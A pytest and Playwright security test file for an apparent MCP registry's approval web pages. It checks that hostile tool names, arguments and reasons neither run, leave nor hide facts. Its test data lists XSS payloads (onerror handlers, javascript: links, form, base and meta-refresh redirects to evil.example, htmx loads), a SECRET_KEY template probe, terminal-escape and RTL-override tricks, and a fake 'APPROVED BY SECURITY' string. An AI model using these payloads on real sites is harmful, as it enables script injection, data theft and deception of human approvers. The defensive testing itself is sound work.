"""Hostile names, descriptions, arguments and reasons: nothing runs, nothing leaves, no fact is
hidden."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from mcpregistry.domain.definitions.comparison import format_readable
from mcpregistry.domain.text.canonical import clean_text, encode_canonical_json
from mcpregistry.models import (
    Agent,
    ApprovalRequest,
    ApprovalVote,
    Definition,
    Invocation,
    PolicyRule,
    Server,
)
from tests.fakes.held import hold
from tests.fakes.hostile import POLYGLOTS
from tests.fakes.seed import Site
from tests.waiting import eventually

pytestmark = [pytest.mark.web, pytest.mark.attack, pytest.mark.one_database]
WindowOf = Callable[..., Any]

HIDDEN = "\x1b\u202e\u200b\U000e0041\x9b\u2066"
MORE = (
    "<img src=x onerror=window.__x=1>",
    "<svg><script>window.__x=1</script></svg>",
    "<body onload=window.__x=1>",
    "<a href='javascript:window.__x=1'>Approve</a>",
    "<form action=//evil.example><input name=q>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>*{display:none!important}</style>",
    "<div style='position:fixed;inset:0;background:#fff;z-index:999'>Approved</div>",
    "</pre></main></body><h1>Approved</h1>",
    "<details open ontoggle=window.__x=1>",
    "<input autofocus onfocus=window.__x=1>",
    "<video><source onerror=window.__x=1></video>",
    "{% debug %}{{ settings.SECRET_KEY }}",
    "&lt;script&gt;window.__x=1&lt;/script&gt;",
    "<div hx-get=//evil.example hx-trigger=load>",
    "<button form=decision name=do value=approve>Cancel</button>",
)
TEXTS = POLYGLOTS
TRICKS = f"\x1b[2J\x1b]8;;http://evil.example\x07click\x1b]8;;\x07 rm\u202e gpj.exe \u2066a\u200bb\U000e0041\x9b31m{'a' + chr(0x301) * 60}"


def poison_all(number: int) -> ApprovalRequest:
    """A held call in which every text that somebody foreign chooses is hostile."""
    text = TEXTS[number]
    more = MORE[number % len(MORE)]
    rule = PolicyRule.objects.create(
        name=clean_text(f"{number} {text}", 200), condition=clean_text(text)
    )
    arguments = {"query": f"{text} {TRICKS}", text: [text, {more: text}]}
    held = hold(
        arguments=arguments,
        rule=rule,
        said=clean_text(f"{text}\n{more}\n{TRICKS}") + "\n" * 500 + "APPROVED BY SECURITY",
    )
    calls = Invocation.objects.filter(pk=held.call_id)
    requests = ApprovalRequest.objects.filter(pk=held.pk)
    calls.update(
        exposed_name=clean_text(text, 500),
        host_name=clean_text(text, 100),
        endpoint_slug=clean_text(text, 63),
        reason=clean_text(text),
    )
    requests.update(rule_name=clean_text(text, 200), decided_reason=clean_text(text))
    ApprovalVote.objects.create(
        request=held,
        name=clean_text(text, 150),
        approve=True,
        reason=clean_text(text),
        arguments_hash="",
        via="web",
        at=held.asked_at,
    )
    return held


@pytest.fixture
def poisoned(crowd: Site) -> list[ApprovalRequest]:
    rows = [poison_all(number) for number in range(len(TEXTS))]
    Server.objects.filter(slug="git").update(command=["sh", *map(clean_text, TEXTS)])
    Agent.objects.filter(slug="local").update(name=TEXTS[0])
    for definition in Definition.objects.filter(tool__name="git_push"):
        body = definition.data | {"description": f"{TEXTS[1]} {TRICKS}", "title": TEXTS[2]}
        Definition.objects.filter(pk=definition.pk).update(body=encode_canonical_json(body))
    return rows


def unharmed(window: Any, address: str) -> None:
    assert window.evaluate("window.__x") is None, address
    seen = window.evaluate("document.body.innerText")
    assert not any(sign in seen for sign in HIDDEN), address
    assert (
        window.evaluate(
            "document.querySelectorAll('iframe, object, embed, base, img, svg, video').length"
        )
        == 0
    ), address


@pytest.mark.exhaustive
def test_25_polyglots_in_every_text_never_run_leave_or_hide(
    window_of: WindowOf, poisoned: list[ApprovalRequest]
) -> None:
    assert len(poisoned) == 25
    window = window_of("approver")
    for address in ("/approvals/", "/approvals/history/", "/approvals/figures/"):
        assert window.goto(address).status == 200
        unharmed(window, address)
    for held in poisoned:
        address = f"/approvals/{held.pk}/"
        assert window.goto(address).status == 200
        unharmed(window, address)
        facts_come_first(window)


def facts_come_first(window: Any) -> None:
    """Facts, all arguments, the decision, then what the server and the agent say; none covers
    another."""
    order = window.evaluate("""() => {
      const all = ['facts', 'asked', 'decide', 'tool-says', 'says'].map((id) => document.getElementById(id));
      return all.every((node, i) => node && (!i || all[i - 1].compareDocumentPosition(node) & 4));
    }""")
    assert order, "what is foreign stands before a fact"
    hidden = window.evaluate("""() => [...document.querySelectorAll('#facts, #facts *, #arguments, #arguments *, #decision button')]
      .filter((node) => !node.hidden && !node.closest('details:not([open])'))
      .filter((node) => {
        const style = getComputedStyle(node), box = node.getBoundingClientRect();
        const clipped = style.overflowX !== 'visible' || style.overflowY !== 'visible';
        const cut = clipped && (node.scrollHeight > node.clientHeight + 1 || node.scrollWidth > node.clientWidth + 1);
        return cut || style.visibility === 'hidden' || style.display === 'none' || Number(style.opacity) < 1 || box.width === 0;
      }).map((node) => node.outerHTML.slice(0, 120))""")
    assert hidden == []
    covered = window.evaluate("""() => ['#facts dd', '#arguments pre', '#approve', '#deny'].filter((selector) => {
      const node = document.querySelector(selector);
      node.scrollIntoView({ block: 'center' });
      const box = node.getBoundingClientRect();
      const top = document.elementFromPoint(box.left + Math.min(box.width, 40) / 2, box.top + Math.min(box.height, 20) / 2);
      return !(top && (node.contains(top) || top.contains(node)));
    })""")
    assert covered == []
    assert window.evaluate("document.documentElement.scrollWidth - innerWidth") <= 0


@pytest.mark.exhaustive
def test_on_a_phone_everything_fits_and_stays_in_order(
    window_of: WindowOf, poisoned: list[ApprovalRequest]
) -> None:
    window = window_of("approver", viewport={"width": 390, "height": 844})
    for address in ("/approvals/", "/approvals/history/", "/approvals/figures/"):
        window.goto(address)
        assert window.evaluate("document.documentElement.scrollWidth - innerWidth") <= 0, address
    for held in poisoned[::6]:
        window.goto(f"/approvals/{held.pk}/")
        facts_come_first(window)
        unharmed(window, held.pk)


@pytest.mark.exhaustive
def test_ten_megabytes_are_folded_shown_whole_on_demand_and_never_cut(
    window_of: WindowOf, crowd: Site
) -> None:
    held = hold(arguments={"query": "x", "text": "A" * 10_485_760 + "\u202eTHE END"})
    window = window_of("approver")
    assert window.goto(f"/approvals/{held.pk}/").status == 200
    assert window.locator("#approve").is_disabled()
    assert window.locator("#deny").is_enabled()
    assert len(window.evaluate("document.body.innerText")) < 40_000
    window.get_by_role("link", name="Show all").click()
    window.wait_for_url("**all=1")
    shown = window.evaluate("document.getElementById('arguments').textContent")
    assert shown.endswith('⟦U+202E⟧THE END"}')
    assert len(shown) > 10_485_760
    end = window.locator("#arguments pre").last
    end.scroll_into_view_if_needed()
    assert end.bounding_box()["height"] > 10
    assert window.locator("#approve").is_enabled()
    window.evaluate("document.getElementById('approve').click()")
    window.get_by_text("Approved git_push").wait_for()


@pytest.mark.exhaustive
def test_announcements_of_hostile_names_are_text(window_of: WindowOf, crowd: Site) -> None:
    from mcpregistry.services.approvals import votes

    held = hold(said="x")
    Invocation.objects.filter(pk=held.call_id).update(tool_name=TEXTS[0])
    window = window_of("viewer")
    window.goto("/approvals/")
    root = crowd.people["root"]
    type(root).objects.filter(pk=root.pk).update(username="<img src=x onerror=window.__x=1>")
    root.refresh_from_db()
    votes.vote(request_id=held.pk, user=root, approve=False, reason=TEXTS[1], via="web")
    eventually(
        lambda: format_readable(TEXTS[0]) in window.title()
    )  # first: it says so for ten seconds
    window.get_by_text("Nothing is waiting").wait_for()
    window.locator("#announcer", has_text="rejected <script>").wait_for(state="attached")
    unharmed(window, "the queue")
